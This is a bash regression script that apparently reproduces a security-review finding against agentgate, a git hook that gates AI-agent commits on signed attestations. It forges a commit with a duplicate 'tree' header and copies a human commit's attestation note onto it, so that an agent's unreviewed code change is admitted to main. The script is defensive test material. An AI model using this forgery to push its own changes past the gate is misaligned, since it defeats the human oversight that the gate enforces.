#!/bin/bash
# Notice: copied (apart from this notice, and `--test-result passed` on `agentgate sign`, which
# now requires the outcome: issue 11) from the project's security review of
# issue 10. The before-stop check runs these scripts against a build; each prints what
# happened to its attack. The integration tests pinning this class and its variants are in
# tests/it/bypass/headers.rs (class 1, commit and tag headers: second_tree_forges_tree_binding).
# Run: AG=target/release/agentgate bash tests/bypasses/repro-7.sh
# repro-7: bind = "tree". agentgate's Commit::parse keeps the LAST `tree` header; git uses the
# first. An agent commit whose real tree is new code, with a second `tree <attested tree>` line
# after `committer` (passes git fsck --strict / receive.fsckObjects), is admitted by copying the
# gate's bundles of an attested human commit into its note: the gate never built its real tree.
set -u
AG=${AG:-agentgate}
W=$(mktemp -d); mkdir -p $W/home
export HOME=$W/home GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null
export GIT_AUTHOR_NAME=Ada GIT_AUTHOR_EMAIL=ada@example.com GIT_COMMITTER_NAME=Ada GIT_COMMITTER_EMAIL=ada@example.com
$AG keygen --out $W/gate >/dev/null; echo artifact > $W/app.bin
printf 'version = 1\n[protect]\nrefs = ["refs/heads/main"]\n[attest]\nbind = "tree"\n[[signer]]\nname = "gate"\npublic_key = "%s"\n' $W/gate.pub > $W/policy.toml
git init -q --bare -b main $W/srv.git; git -C $W/srv.git config receive.fsckObjects true
$AG install --repo $W/srv.git --config $W/policy.toml >/dev/null
git init -q -b main $W/c; cd $W/c; git remote add origin $W/srv.git
echo good > app.c; git add app.c; git commit -q -m "human: app"; H=$(git rev-parse HEAD); TH=$(git rev-parse HEAD^{tree})
$AG sign --key $W/gate.key --commit $H --artifact $W/app.bin --test-result passed --note >/dev/null 2>&1
git push -q origin refs/notes/agentgate main
echo evil > app.c; git add app.c; TE=$(git write-tree)
A=$(printf "tree $TE\nparent $H\nauthor Claude <noreply@anthropic.com> 1767610800 +0000\ncommitter Claude <noreply@anthropic.com> 1767610800 +0000\ntree $TH\n\nagent: rewrite app.c\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n" | git hash-object -t commit -w --stdin)
git notes --ref agentgate show $H | git notes --ref agentgate add -F - $A     # copy H's bundles
echo "== control: same agent change as a normal commit with the copied note is refused:"
C=$(git commit-tree -p $H -m "agent: rewrite app.c" -m "Co-Authored-By: Claude <noreply@anthropic.com>" $TE)
git notes --ref agentgate show $H | git notes --ref agentgate add -F - $C; git push origin refs/notes/agentgate $C:refs/heads/main 2>&1 | grep -m1 refused
echo "== push main -> A (real tree ${TE:0:7}, extra header tree ${TH:0:7}):"; git push origin refs/notes/agentgate $A:refs/heads/main 2>&1 | grep -E 'main|refused'
echo "== server main:app.c = $(git -C $W/srv.git show main:app.c); fsck --strict: $(git -C $W/srv.git fsck --strict --no-dangling 2>&1 | wc -l) problems"
tail -2 $W/srv.git/agentgate/audit.jsonl | jq -c 'select(.ref=="refs/heads/main") | {decision,code,rules:[.agent_commits[].matches[].rule]}'
